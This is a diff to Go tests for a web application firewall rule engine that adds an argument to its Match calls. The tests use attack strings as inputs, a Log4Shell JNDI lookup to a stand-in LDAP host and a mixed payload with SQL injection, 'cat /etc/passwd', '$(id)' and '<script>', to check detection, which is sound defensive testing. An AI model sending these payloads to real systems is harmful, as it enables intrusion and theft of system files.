@@ -92,7 +92,7 @@ func TestAttacks(t *testing.T) {
 
 func TestScoreAndDescription(t *testing.T) {
 	set := coreRules(t, 1)
-	result := set.NewMachine(crs.Memo{}).Match(&crs.Request{Method: "GET", URI: "/?x=${jndi:ldap://a.example/x}", Protocol: "HTTP/1.1", UserAgent: "a"}, nil)
+	result := set.NewMachine(crs.Memo{}).Match(&crs.Request{Method: "GET", URI: "/?x=${jndi:ldap://a.example/x}", Protocol: "HTTP/1.1", UserAgent: "a"}, 0, nil)
 	if result.Score != 15 || len(result.Rules) != 3 || result.Cut {
 		t.Fatalf("%+v, want three rules of 5 each", result)
 	}
@@ -223,12 +223,12 @@ func TestACostlyRequestIsCut(t *testing.T) {
 	m := set.NewMachine(crs.DefaultMemo())
 	pair := "a'%20or%201=1;cat%20/etc/passwd|$(id)<script>=&"
 	r := crs.Request{Method: "GET", URI: "/?" + strings.Repeat("x="+pair, 330), Protocol: "HTTP/1.1", UserAgent: "a"}
-	result := m.Match(&r, nil)
+	result := m.Match(&r, 0, nil)
 	if !result.Cut || len(result.Rules) == 0 {
 		t.Errorf("%d rules, cut %v: want some rules, and not all the work done", len(result.Rules), result.Cut)
 	}
 	ordinary := crs.Request{Method: "GET", URI: "/?q=" + strings.Repeat("word+", 1000), Protocol: "HTTP/1.1", UserAgent: "a"}
-	if result := m.Match(&ordinary, nil); result.Cut {
+	if result := m.Match(&ordinary, 0, nil); result.Cut {
 		t.Error("a long but ordinary request is cut")
 	}
 }
@@ -245,7 +245,7 @@ func FuzzCompile(f *testing.F) {
 		}
 		m := set.NewMachine(crs.Memo{Lines: 2, Headers: 2, Values: 2})
 		for range 2 {
-			m.Match(&crs.Request{Method: "GET", URI: uri[:min(len(uri), 500)], Protocol: "HTTP/1.1", UserAgent: "a", Cookie: uri[:min(len(uri), 50)], Body: "x=" + uri[:min(len(uri), 50)]}, nil)
+			m.Match(&crs.Request{Method: "GET", URI: uri[:min(len(uri), 500)], Protocol: "HTTP/1.1", UserAgent: "a", Cookie: uri[:min(len(uri), 50)], Body: "x=" + uri[:min(len(uri), 50)]}, 0, nil)
 		}
 	})
 }
